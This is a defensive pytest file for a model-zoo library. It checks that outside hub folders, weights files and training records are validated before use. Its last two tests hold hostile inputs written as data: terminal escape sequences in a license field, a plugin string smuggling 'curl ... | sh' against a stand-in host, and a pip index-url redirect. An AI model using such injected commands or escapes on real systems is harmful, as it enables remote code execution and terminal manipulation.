"""Records, weights files and hubs from outside are checked before they are used."""

from __future__ import annotations

import json
import math
import shutil
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import load_file, save_file

import zoo
from zoo import api
from zoo.errors import DataError, FolderError, HubError, NonFiniteLoss, PluginError, TrainingError
from zoo.record import store

from .conftest import CHECKOUT, Run
from .folders import config_of, hashed, trained_record

NAME = "resnet8_digits"


def test_a_hub_folder_that_holds_another_model_is_not_loaded_under_its_name(tmp_path: Path) -> None:
    shutil.copytree(CHECKOUT / "hub_cards" / NAME, tmp_path / "resnet20_cifar10")
    with pytest.raises(HubError, match=f"resnet20_cifar10 contains the model {NAME}, expected resnet20_cifar10"):
        zoo.load("resnet20_cifar10", pretrained=True, hub=f"file:{tmp_path}")


@pytest.mark.parametrize("name", ["../../escaped", "/tmp/escaped", "FOLDER"])
def test_a_record_whose_name_is_a_path_is_not_pulled(
    model_folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    (tmp_path / "hub").mkdir()
    model_folder.rename(tmp_path / "hub" / NAME)
    config_of(tmp_path / "hub" / NAME, name=name)
    monkeypatch.chdir(tmp_path)
    with pytest.raises(FolderError, match="name should be a name of a-z"):
        api.pull(NAME, hub=f"file:{tmp_path / 'hub'}")
    assert [path.name for path in tmp_path.iterdir()] == ["hub"]


@pytest.mark.parametrize("kind", [torch.int16, torch.float64, torch.float16])
def test_weights_of_another_type_are_not_cast(model_folder: Path, kind: torch.dtype) -> None:
    tensors = load_file(model_folder / store.WEIGHTS)
    save_file({name: tensor.to(kind) for name, tensor in tensors.items()}, model_folder / store.WEIGHTS)
    with pytest.raises(FolderError, match=r"does not fit the architecture|as torch\.float16, expected torch\.float32"):
        zoo.load(hashed(model_folder), pretrained=True)


@pytest.mark.parametrize("pretrained", [True, False])
def test_a_wrong_number_of_parameters_in_a_record_is_refused(model_folder: Path, pretrained: bool) -> None:
    with pytest.raises(FolderError, match=r"has 75,002 parameters, its config\.json says 999"):
        zoo.load(config_of(model_folder, parameters=999), pretrained=pretrained)


WRONG_INPUTS: tuple[dict[str, Any], ...] = (
    {"classes": ["cat"] * 10},
    {"input_size": [3, 8, 8], "mean": [0.5] * 3, "std": [0.5] * 3},
    {"input_size": [1, 16, 16]},
)


@pytest.mark.parametrize("fields", WRONG_INPUTS, ids=str)
@pytest.mark.parametrize("pretrained", [True, False])
def test_classes_and_input_size_must_be_those_that_the_plugin_declares(
    model_folder: Path, fields: dict[str, Any], pretrained: bool
) -> None:
    with pytest.raises(DataError, match="with other classes or another input size than the installed digits"):
        zoo.load(config_of(model_folder, **fields), pretrained=pretrained)


def test_a_new_head_is_not_compared_with_the_declared_classes(model_folder: Path) -> None:
    folder = config_of(model_folder, classes=["cat"] * 10)
    assert zoo.load(folder, pretrained=True, num_classes=3)(torch.randn(2, 1, 8, 8)).shape == (2, 3)
    with pytest.raises(DataError, match="with other classes or another input size than the installed digits"):
        zoo.load(folder, pretrained=True, in_channels=2)


def test_a_model_name_must_be_that_of_its_architecture_and_dataset(model_folder: Path) -> None:
    with pytest.raises(FolderError, match="name should be resnet8_digits, its architecture's and its dataset's"):
        zoo.load(config_of(model_folder, name="resnet20_cifar10"), pretrained=True)


def test_a_weights_file_of_an_unknown_recipe_is_not_evaluated(model_folder: Path, tmp_path: Path) -> None:
    alone = tmp_path / "alone.safetensors"
    tensors = load_file(model_folder / store.WEIGHTS)
    save_file(tensors, alone, {"recipe": "quick", "recipe_sha256": "0" * 64})
    with pytest.raises(FolderError, match="has no mean and std in its metadata"):
        api.evaluate(NAME, weights=alone)
    save_file(tensors, alone)
    assert api.evaluate(NAME, weights=alone).results == trained_record(model_folder).results


def test_a_training_that_ends_with_weights_that_are_not_finite_is_not_saved(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from zoo.training import learner

    published = learner.Learner.published

    def broken(self: learner.Learner) -> torch.nn.Module:
        net = published(self)
        with torch.no_grad():
            next(iter(net.parameters()))[0] = math.nan
        return net

    monkeypatch.setattr(learner.Learner, "published", broken)
    with pytest.raises(NonFiniteLoss, match=r"conv1\.weight is not finite after the last step"):
        api.train("resnet8", epochs=1, limit_train=64, out=tmp_path / "model")
    assert not (tmp_path / "model").exists()


@pytest.mark.parametrize("license", ["[/x] [bold]free[/bold]\x1b]0;owned\x07", "mit\nresnet99\t1\t99.99%"])
def test_text_from_a_record_does_not_control_the_terminal(
    model_folder: Path, tmp_path: Path, run_here: Run, license: str
) -> None:
    (tmp_path / "hub").mkdir()
    model_folder.rename(tmp_path / "hub" / NAME)
    config_of(tmp_path / "hub" / NAME, license=license)
    for words in (["list", "--hub", f"file:{tmp_path / 'hub'}"], ["info", NAME, "--hub", f"file:{tmp_path / 'hub'}"]):
        finished = run_here(*words)
        text = finished.stdout + finished.stderr
        assert "Traceback" not in text
        assert "\x1b" not in text
        assert not any(line.startswith("resnet99") for line in text.splitlines())


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"recipe": {"crop_padding": 512}}, "crop_padding should be up to 8, the size of the images, not 512"),
        ({"threads": 10**9}, "threads should be from 1 to 1,024, not 1000000000"),
        ({"train_images": 10**12}, "limit_train should be from 1 to"),
    ],
)
def test_a_published_job_that_needs_too_much_memory_or_time_is_not_reproduced(
    model_folder: Path, tmp_path: Path, changes: dict[str, Any], message: str
) -> None:
    job = trained_record(model_folder).job
    recipe = job.recipe.replace(**changes.get("recipe", {}))
    changed = {**job.to_json(), **changes, "recipe": recipe.to_json()}
    config_of(model_folder, job=changed, recipe_sha256=recipe.sha256())
    with pytest.raises(TrainingError, match=message):
        api.reproduce(model_folder, out=tmp_path / "again")
    assert not (tmp_path / "again").exists()


@pytest.mark.parametrize("changes", [{"epochs": 10**9}, {"mixup": 1e300}, {"decay_milestones": [1] * 5000}], ids=str)
def test_a_record_with_a_recipe_out_of_bounds_is_refused(model_folder: Path, changes: dict[str, Any]) -> None:
    job = json.loads((model_folder / store.CONFIG).read_text())["job"]
    config_of(model_folder, job={**job, "recipe": {**job["recipe"], **changes}})
    with pytest.raises(FolderError, match=f"{next(iter(changes))}.* should (be|have) at most"):
        store.read_record(model_folder)


@pytest.mark.parametrize(
    ("plugin", "named"),
    [
        ("zoo-other 2.0", "the distribution 'zoo-other'"),
        ("evil;curl${IFS}e.x|sh 1", "ask its publisher"),
        ("--index-url=http://e.x 1", "ask its publisher"),
        ("a" * 101, "ask its publisher"),
        ("", "ask its publisher"),
    ],
)
def test_an_error_contains_no_command_made_from_a_record(model_folder: Path, plugin: str, named: str) -> None:
    job = json.loads((model_folder / store.CONFIG).read_text())["job"]
    job |= {"architecture": "other", "versions": {**job["versions"], "plugin": plugin}}
    with pytest.raises(PluginError) as caught:
        zoo.load(config_of(model_folder, name="other_digits", architecture="other", job=job), pretrained=True)
    assert named in str(caught.value)
    assert "pip" not in str(caught.value)
    assert "curl" not in str(caught.value)
